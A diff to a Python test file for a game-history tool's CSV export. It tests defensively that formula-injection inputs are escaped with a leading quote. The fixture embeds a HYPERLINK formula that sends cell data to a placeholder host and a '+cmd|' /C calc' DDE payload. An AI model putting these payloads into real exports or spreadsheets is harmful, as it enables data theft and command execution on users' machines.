@@ -18,8 +18,7 @@ import pytest
 from test_tournament_hostile import desk_with_round, seated
 
 from companion.cli import main
-from companion.history import History
-from companion.history import exchange as ex
+from companion.history import History, export, importing
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Click for the scores")'
@@ -29,7 +28,7 @@ def _journal_with_hostile_title(tmp_path: Path) -> Path:
     journal = tmp_path / "journal.sqlite3"
     text = (ROOT / "examples" / "dice-forge.game").read_text(encoding="utf-8")
     with History(journal) as history:
-        ex.import_game_text(history, f"# {HOSTILE_TITLE}\n# +cmd|' /C calc'!A0\n" + text,
+        importing.import_game_text(history, f"# {HOSTILE_TITLE}\n# +cmd|' /C calc'!A0\n" + text,
                             "hostile.game")
     return journal
 
@@ -44,13 +43,13 @@ def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
     assert title.startswith(f"'{HOSTILE_TITLE}; +cmd|' /C calc'!A0; Dice Forge")
     assert [r["player"] for r in rows] == ["Ana", "Ben"]
     for row in rows:  # no cell of any row starts as a formula; numbers stay numbers
-        assert not any(v.startswith(ex.FORMULA_STARTS) for v in row.values()), row
+        assert not any(v.startswith(export.FORMULA_STARTS) for v in row.values()), row
         assert row["seat"] in ("1", "2") and float(row["score"]) >= 0
     # every text cell passes the same rule (names from older journals, teams, roles)
     cells = ["=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "Ana", "", "1-2"]
-    assert [ex.csv_cell(c) for c in cells] == [
+    assert [export.csv_cell(c) for c in cells] == [
         "'=1+2", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "'\n=1", "Ana", "", "1-2"]
-    assert [ex.csv_cell(v) for v in (-3, 2.5, None)] == [-3, 2.5, None]
+    assert [export.csv_cell(v) for v in (-3, 2.5, None)] == [-3, 2.5, None]
     # the same rule on standard output
     assert main(["history", "export", "csv", "-", "--journal", str(journal)]) == 0
     assert f"'{HOSTILE_TITLE}" in capsys.readouterr().out.replace('""', '"')
